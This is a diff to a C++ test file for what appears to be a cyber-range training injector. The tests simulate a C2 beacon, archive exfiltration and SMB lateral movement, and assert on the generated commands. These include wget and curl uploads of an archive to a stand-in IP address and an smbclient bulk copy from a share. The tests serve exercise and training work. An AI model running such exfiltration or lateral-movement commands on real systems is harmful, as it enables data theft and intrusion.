@@ -38,6 +38,7 @@ TimelineItem step(const std::string& id, const std::string& type, const std::str
 struct Fixture : ::testing::Test {
   std::shared_ptr<FakeGuestRunner> runner = std::make_shared<FakeGuestRunner>();
   bool mta = false;
+  bool standard = false;  // hosts run nginx, Samba and smbclient
   InjectExecutor exec{[this](const std::string&, const std::string& team) -> Expected<TeamTarget> {
                         if (team != "t1")
                           return make_error(ErrorCode::not_found,
@@ -53,7 +54,11 @@ struct Fixture : ::testing::Test {
         return GuestResult{0, mta ? "mta\n" : "none\n", ""};
       if (script.find("command -v curl") != std::string::npos) return GuestResult{0, "curl\n", ""};
       if (script.find("/usr/sbin/nginx") != std::string::npos)
-        return GuestResult{0, "busybox\n", ""};
+        return GuestResult{0, standard ? "nginx\n" : "busybox\n", ""};
+      if (script.find("/usr/sbin/smbd") != std::string::npos)
+        return GuestResult{0, standard ? "smbd\n" : "none\n", ""};
+      if (script.find("command -v smbclient") != std::string::npos)
+        return GuestResult{0, standard ? "smbclient\n" : "none\n", ""};
       return GuestResult{0, "", ""};
     });
   }
@@ -310,6 +315,51 @@ TEST_F(Fixture, BeaconPlantsALabelledBoundedImplant) {
   EXPECT_EQ(exec.technique(item), "T1071.001");
 }
 
+TEST_F(Fixture, OnNginxTheBeaconAndUploadReceiverIsALocationOfTheUrlsPath) {
+  standard = true;
+  ASSERT_TRUE(fire(step("c2-beacon", "beacon", "ws01",
+                        {{"url", "http://cdn-x.net/news/update"},
+                         {"interval_seconds", "60"},
+                         {"c2_host", "attacker"}}),
+                   125)
+                  .ok());
+  const std::string conf =
+      runner->file("attacker", "/etc/nginx/cyrange.d/receiver_news_update.conf");
+  EXPECT_NE(conf.find("location ^~ /news/update {"), std::string::npos) << conf;
+  EXPECT_NE(conf.find("return 200 \"sleep\\n\";"), std::string::npos) << conf;
+  EXPECT_NE(scripts("attacker").find("nginx -t 2>&1 && nginx -s reload"), std::string::npos);
+  EXPECT_TRUE(runner->file("attacker", "/www/cgi-bin/update").empty());
+  // Any path will do on nginx (busybox needs /cgi-bin/NAME), and the body may be large.
+  ASSERT_TRUE(fire(step("exfil", "upload", "ws01",
+                        {{"destination", "http://198.51.100.23/upload/bk_a1b2c3.7z?x=1"},
+                         {"archive", "bk_a1b2c3.7z"},
+                         {"receiver_host", "attacker"}}),
+                   126)
+                  .ok());
+  const std::string upload =
+      runner->file("attacker", "/etc/nginx/cyrange.d/receiver_upload_bk_a1b2c3_7z.conf");
+  EXPECT_NE(upload.find("location ^~ /upload/bk_a1b2c3.7z {"), std::string::npos) << upload;
+  EXPECT_NE(upload.find("client_max_body_size 512m;"), std::string::npos) << upload;
+}
+
+TEST_F(Fixture, SmbCopyBetweenSambaAndSmbclientLogsOnOverSmb) {
+  standard = true;
+  ASSERT_TRUE(fire(step("lateral", "smb_copy", "files",
+                        {{"source", "ws01"}, {"share", "share"}, {"user", "suzuki.hanako"}}),
+                   127)
+                  .ok());
+  const std::string ws = scripts("ws01");
+  EXPECT_NE(ws.find("srv='files'\ngetent hosts \"$srv\" >/dev/null || srv='10.40.0.20'"),
+            std::string::npos)
+      << ws;
+  EXPECT_NE(ws.find("smbclient \"//$srv/\"'share' -U 'suzuki.hanako%"), std::string::npos) << ws;
+  EXPECT_NE(ws.find("mget *"), std::string::npos) << ws;
+  // The server writes its own logs: nothing is forged into auth.log, nothing goes via the agent.
+  EXPECT_EQ(scripts("files").find("auth.log"), std::string::npos) << scripts("files");
+  EXPECT_TRUE(runner->file("ws01", "/tmp/.stage-127/share.tar.b64").empty());
+  EXPECT_NE(exec.report(127)[0].find("over SMB"), std::string::npos);
+}
+
 TEST_F(Fixture, TraineeNoticeIsBilingual) {
   auto item = step("isp", "trainee_notice", "ws01",
                    {{"sender", "Kakuu ISP"},
@@ -343,6 +393,10 @@ TEST_F(Fixture, HostStepsBuildTheExpectedCommands) {
       scripts("ws01").find("--post-file '/tmp/bk_a1b2c3.7z' 'http://198.51.100.23/cgi-bin/upload'"),
       std::string::npos);
   EXPECT_NE(scripts("ws01").find("head -c 2101248 /dev/urandom"), std::string::npos);
+  // curl where the guest has it: it sends the length that squid and nginx require.
+  EXPECT_NE(scripts("ws01").find("--data-binary @'/tmp/bk_a1b2c3.7z' "
+                                 "'http://198.51.100.23/cgi-bin/upload'"),
+            std::string::npos);
   ASSERT_TRUE(
       fire(step("dns", "dns_query", "ws01", {{"domain", "cdn-x.net"}, {"count", "3"}}), 142).ok());
   EXPECT_NE(scripts("ws01").find("nslookup"), std::string::npos);
